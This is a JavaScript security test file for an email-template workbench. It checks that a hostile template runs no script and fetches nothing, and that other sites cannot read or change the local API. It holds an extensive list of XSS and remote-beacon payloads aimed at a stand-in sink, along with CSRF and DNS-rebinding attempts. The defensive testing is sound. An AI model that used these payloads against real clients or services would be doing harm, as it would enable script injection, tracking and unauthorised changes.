// A malicious template: nothing in it runs, and nothing is fetched until the user asks for pictures.

import assert from "node:assert/strict";
import { test } from "node:test";
import { SETTINGS, browser, click, mailSays, open, sink, until, workbench } from "./workbench.mjs";

/** Everything that could run or fetch; each requests its own address from the sink. */
function hostile({ url }) {
  const run = (name) => `fetch('${url}/run-${name}');new Image().src='${url}/run-${name}';top.ran='${name}';parent.ran='${name}'`;
  return `<!doctype html>
<html lang="en" manifest="${url}/manifest" background="${url}/html-background">
<head><meta charset="utf-8"><title>Hostile</title>
<base href="${url}/base/" target="_top">
<meta http-equiv="refresh" content="0;url=${url}/refresh">
<meta http-equiv="refresh" content="0;url=javascript:${run("refresh")}">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' 'unsafe-eval'">
<meta http-equiv="x-dns-prefetch-control" content="on">
<meta name="referrer" content="unsafe-url">
<link rel="stylesheet" href="${url}/sheet.css"><link rel="icon" href="${url}/icon"><link rel="preload" as="image" href="${url}/preload">
<link rel="prefetch" href="${url}/prefetch"><link rel="prerender" href="${url}/prerender"><link rel="modulepreload" href="${url}/modulepreload">
<link rel="preconnect" href="${url}"><link rel="dns-prefetch" href="${url}"><link rel="manifest" href="${url}/web-manifest">
<LINK/REL=preconnect/HREF="${url}"><link rel="import" href="${url}/import">
<!--[if !mso]><!--><link rel="preconnect" href="${url}" crossorigin><!--<![endif]-->
<style>@import url("${url}/import.css"); @font-face { font-family: f; src: url("${url}/font"); } body { font-family: f; background: url("${url}/background"); cursor: url("${url}/cursor"), auto }
li { list-style-image: url("${url}/list") } p::after { content: url("${url}/content") } p { border-image: url("${url}/border") 1; behavior: url("${url}/behavior"); -moz-binding: url("${url}/xbl#x") }
@media (prefers-color-scheme: dark) { body { background-image: url("${url}/dark") } } </style>
<script>${run("script")}</script><script src="${url}/script.js"></script><script type="module">import "${url}/module.js"</script>
<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["${url}/speculation"]}]}</script>
</head>
<body onload="${run("onload")}" onpageshow="${run("onpageshow")}" background="${url}/body-background">
<p id="first">Before the harm</p>
</iframe></iframe></div></section></main></textarea></title></style></script></noscript><script>${run("after-iframe")}</script>
<iframe src="${url}/frame"></iframe><iframe srcdoc="&lt;script&gt;${run("srcdoc")}&lt;/script&gt;&lt;img src='${url}/srcdoc'&gt;"></iframe><iframe src="javascript:${run("frame")}"></iframe>
<iframe src="/"></iframe><frame src="${url}/old-frame"><portal src="${url}/portal"></portal>
<img src="${url}/image.png" onload="${run("img")}"><img src="x" onerror="${run("onerror")}"><img srcset="${url}/srcset 1x"><picture><source srcset="${url}/picture"><img alt=""></picture>
<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='${url}/in-data'/%3E%3Cscript%3E${run("data")}%3C/script%3E%3C/svg%3E">
<svg onload="${run("svg")}"><script>${run("svg-script")}</script><image href="${url}/svg-image"/><use href="${url}/use.svg#x"/><feImage href="${url}/fe"/><a href="javascript:${run("svg-a")}"><text y="20">svg link</text></a>
<animate attributeName="href" values="javascript:${run("animate")}" begin="0s"/><set attributeName="onclick" to="${run("set")}"/><foreignObject><iframe src="${url}/foreign"></iframe></foreignObject></svg>
<math href="javascript:${run("math")}"><mtext>math link</mtext></math>
<object data="${url}/object" type="text/html"></object><object data="javascript:${run("object")}"></object><embed src="${url}/embed"><applet code="${url}/applet"></applet>
<video src="${url}/video" poster="${url}/poster" autoplay onerror="${run("video")}"></video><audio src="${url}/audio" autoplay></audio><track src="${url}/track">
<form id="f" action="${url}/form" method="post"><input name="a" value="b" autofocus onfocus="${run("focus")}"><input type="image" src="${url}/input"><button id="send" formaction="javascript:${run("formaction")}">Send</button></form>
<details open ontoggle="${run("toggle")}"><summary>more</summary></details><marquee onstart="${run("marquee")}">m</marquee>
<div style="animation: x 1s; background-image: url('${url}/style')" onanimationstart="${run("animation")}">d</div><style>@keyframes x { from { color: red } }</style>
<table background="${url}/table"><tr><td background="${url}/cell">t</td></tr></table>
<p><a id="js" href="javascript:${run("a")}">script</a> <a id="out" href="${url}/link" ping="${url}/ping" target="_top">out</a> <a id="blank" href="${url}/blank" target="_blank">blank</a>
<a id="home" href="/api/project">home</a> <a id="down" href="${url}/download" download>down</a> <a id="macro" href="javascript:${run("value")}">[contactfirstname]</a></p>
<p onclick="${run("onclick")}" onmouseover="${run("onmouseover")}" id="over">over</p>
<noscript><img src="${url}/noscript"></noscript><template><img src="${url}/template"></template>
<xml id="x"></xml><bgsound src="${url}/bgsound"><layer src="${url}/layer"></layer><isindex action="${url}/isindex">
<p>After the harm</p>
</body></html>
`;
}

/** A name and a subject that would be markup if they were not text. */
const MARKUP = "<img src=x onerror=top.ran='markup'><script>top.ran='markup'</script>";

test("a hostile template runs nothing and fetches nothing", async () => {
  const spy = await sink();
  const chrome = await browser(["--host-resolver-rules=MAP pictures.example 192.0.2.1"]);
  const body = `${hostile(spy)}<img id="allowed" src="https://pictures.example/image.png" alt="">`;
  const bench = await workbench({
    "psalink.yaml": SETTINGS,
    "mails/hostile.html": body,
    "mails/frames.html": `<html><head><title>f</title></head><frameset cols="50%,50%" onload="top.ran='frames'"><frame src="${spy.url}/frame"><FRAME/SRC='${spy.url}/frame'></frameset></html>`,
    "mails/hostile.subject.txt": `${MARKUP} [srnumber]\n`,
    [`mails/${MARKUP.replaceAll("/", "")}.html`]: `<p>[${MARKUP}]</p>`,
  });
  try {
    const page = await open(chrome, bench.url);
    const ran = () => page.evaluate(() => window.ran);
    const nothing = async (what) => {
      await new Promise((resolve) => setTimeout(resolve, 300));
      assert.equal(await ran(), undefined, what);
      assert.deepEqual(spy.seen.requests, [], what);
      assert.equal(spy.seen.connections, 0, `${what}: a connection`);
      assert.equal((await chrome.pages()).filter((one) => one.url() !== "about:blank").length, 1, `${what}: a window`);
      assert.ok(page.url().startsWith(`${bench.url}/`), `${what}: ${page.url()}`);
      const strange = page.asked.filter((url) => !url.startsWith(`${bench.url}/`) && !url.startsWith("data:"));
      const blocked = strange.filter((url) => !page.failed.includes(url));
      assert.deepEqual(blocked, [], what);
    };
    page.failed = [];
    page.on("requestfailed", (request) => page.failed.push(request.url()));
    await nothing("the list of templates");

    await page.goto(`${bench.url}/#/template/mails/hostile.html`);
    await mailSays(page, "After the harm");
    await nothing("the mail");
    for (const look of ["Dark, authored", "Dark, inverted", "Light", "Phone", "Desktop"]) await click(page, look, "label");
    for (const tab of ["Links", "Text", "Snapshot", "Values", "Source"]) {
      await click(page, tab, "[role=tab]");
      await nothing(`the tab ${tab}`);
    }
    // Every finding with its tooltip, and the pages of the rules.
    await page.evaluate(() => { for (const one of document.querySelectorAll(".ace_editor .ace_line")) one.dispatchEvent(new MouseEvent("mousemove", { bubbles: true })); });
    await nothing("the source");

    // Clicks, with every key that opens links in other tabs or windows, and the keyboard.
    const inMail = async (action) => {
      const frame = await (await page.$("iframe.mail-frame:not(.is-loading)")).contentFrame();
      return action(frame);
    };
    for (const id of ["js", "out", "blank", "home", "down", "macro", "over", "send"]) {
      for (const options of [{}, { button: "middle" }, { key: "Control" }, { key: "Shift" }]) {
        await mailSays(page, "After the harm");
        await inMail(async (frame) => {
          const one = await frame.$(`#${id}`);
          if (options.key) await page.keyboard.down(options.key);
          // If something in the message covers the element, it is clicked directly.
          await one.click(options).catch(() => frame.evaluate((it) => document.getElementById(it).click(), id));
          if (options.key) await page.keyboard.up(options.key);
        });
      }
      await inMail(async (frame) => {
        await frame.focus(`#${id}`);
        await page.keyboard.press("Enter");
      });
      await nothing(`a click on ${id}`);
    }
    await inMail((frame) => frame.evaluate(() => document.getElementById("f").requestSubmit()));
    await nothing("the form is sent");

    // What is typed or pasted is not trusted either.
    await click(page, "Values", "[role=tab]");
    const input = await page.waitForFunction(() => [...document.querySelectorAll("table.values tr")].find((row) => row.textContent.includes("[contactfirstname]"))?.querySelector("input, textarea"), { polling: 20 });
    await input.asElement().type(`"><img src=${spy.url}/value onerror=top.ran='value'>`);
    await until(page, () => document.querySelector("iframe.mail-frame:not(.is-loading)")?.contentDocument.body.textContent.includes(`onerror=top.ran='value'`));
    await nothing("a value");
    await page.goto(`${bench.url}/#/paste?tab=mail`);
    await page.waitForSelector("#box-html");
    await page.evaluate((text, subject) => {
      for (const [id, value] of [["box-html", text], ["box-subject", subject], ["box-text", text]]) {
        const box = document.getElementById(id);
        box.value = value;
        box.dispatchEvent(new Event("input", { bubbles: true }));
      }
    }, body, MARKUP);
    await mailSays(page, "After the harm");
    await nothing("a pasted mail");
    for (const tab of ["Findings", "Source", "Links", "Text", "Values"]) {
      await click(page, tab, "[role=tab]");
      await nothing(`pasted, the tab ${tab}`);
    }

    await page.goto(`${bench.url}/#/template/mails/frames.html`);
    await page.waitForSelector("iframe.mail-frame:not(.is-loading)");
    await nothing("a mail of frames");

    // The reverse: what the user asks for is fetched, so the sink does count.
    await page.goto(`${bench.url}/#/template/mails/hostile.html`);
    await mailSays(page, "After the harm");
    await nothing("the mail again");
    await click(page, "Remote images", "label");
    await until(page, () => document.querySelector("iframe.mail-frame:not(.is-loading)").src.endsWith("images=1"));
    await mailSays(page, "After the harm");
    for (let wait = 0; wait < 50 && !page.asked.includes("https://pictures.example/image.png"); wait += 1) await new Promise((resolve) => setTimeout(resolve, 100));
    assert.ok(page.asked.includes("https://pictures.example/image.png"), "a picture is asked for");
    // The sink is on this computer and uses plain HTTP, so nothing arrives even now.
    assert.deepEqual(spy.seen.requests, []);
    assert.equal(spy.seen.connections, 0);
    assert.equal(await ran(), undefined);
    // The workbench's own page has never violated its policy; only the message has.
    const own = page.wrong.filter((line) => !/\/mail\/([0-9a-f]{32}|x)/.test(line) && !line.includes(spy.url) && !/about:srcdoc|Blocked form submission|pictures\.example/.test(line));
    assert.deepEqual(own, []);
    await page.close();
  } finally {
    bench.close();
    await chrome.close();
    spy.close();
  }
});

test("a page of another site gets nothing and changes nothing", async () => {
  const spy = await sink();
  const chrome = await browser(["--host-resolver-rules=MAP rebound.example 127.0.0.1, MAP other.example 127.0.0.1"]);
  const bench = await workbench({ "psalink.yaml": SETTINGS, "mails/a.html": "<p>[SRNumber]</p>\n" });
  try {
    const mine = await open(chrome, bench.url);
    const id = await mine.evaluate(async () => {
      const answer = await fetch("/api/template", { method: "POST", headers: { "Content-Type": "application/json", "X-Psalink": localStorage.getItem("psalink-key") }, body: JSON.stringify({ path: "mails/a.html" }) });
      const told = await answer.json();
      return { mail: told.mail.id, hash: told.files[0].hash };
    });
    const other = await chrome.newPage();
    await other.goto(`http://other.example:${spy.port}/`);
    const port = new URL(bench.url).port;
    const got = await other.evaluate(async (port, { mail, hash }) => {
      const wish = JSON.stringify({ path: "mails/a.html", file: "mails/a.html", what: "safe", version: hash });
      const seen = [];
      for (const host of ["127.0.0.1", "localhost", "rebound.example"]) {
        const at = `http://${host}:${port}`;
        for (const [path, options] of [
          ["/api/project", {}],
          ["/api/project", { mode: "no-cors" }],
          [`/mail/${mail}`, {}],
          ["/api/fix", { method: "POST", body: wish }],
          ["/api/fix", { method: "POST", body: wish, mode: "no-cors" }],
          ["/api/fix", { method: "POST", body: wish, headers: { "Content-Type": "application/json", "X-Psalink": "1" } }],
          ["/api/fix", { method: "POST", body: new Blob([wish], { type: "application/json" }), mode: "no-cors" }],
        ]) {
          try {
            const answer = await fetch(at + path, options);
            seen.push(`${at}${path} ${options.mode ?? ""} ${answer.type} ${answer.status} ${await answer.text()}`);
          } catch { /* as it should be */ }
        }
        const form = document.createElement("form");
        Object.assign(form, { action: `${at}/api/fix`, method: "post", enctype: "text/plain", target: "hidden" });
        const field = document.createElement("input");
        Object.assign(field, { name: wish.slice(0, -1) + ',"x":"', value: '"}' });
        form.append(field);
        const frame = document.createElement("iframe");
        frame.name = "hidden";
        document.documentElement.append(form, frame);
        form.submit();
        for (const path of ["/", `/mail/${mail}`, "/assets/app.js"]) {
          const one = document.createElement(path.endsWith(".js") ? "script" : "iframe");
          one.src = at + path;
          const done = new Promise((resolve) => { one.onload = () => resolve("loaded"); one.onerror = () => resolve("error"); setTimeout(resolve, 1000, "late"); });
          document.documentElement.append(one);
          const how = await done;
          if (one.tagName === "SCRIPT" && how === "loaded") seen.push(`${at}${path} ran`);
          try { if (one.contentDocument?.body?.children.length) seen.push(`${at}${path} can be read`); } catch { /* another origin */ }
        }
        await new Promise((resolve) => { const events = new EventSource(`${at}/events`); events.onopen = () => { seen.push(`${at}/events`); resolve(); }; events.onerror = () => { events.close(); resolve(); }; });
      }
      return seen;
    }, port, id);
    // An unreadable answer (`opaque 0`) does not count.
    assert.deepEqual(got.filter((line) => !/ opaque 0 $/.test(line)), []);
    assert.equal(bench.read("mails/a.html"), "<p>[SRNumber]</p>\n");
    // A rebound host name does not show the workbench.
    const rebound = await chrome.newPage();
    const answer = await rebound.goto(`http://rebound.example:${port}/`);
    assert.equal(answer.status(), 403);
    await mine.close();
  } finally {
    bench.close();
    await chrome.close();
    spy.close();
  }
});
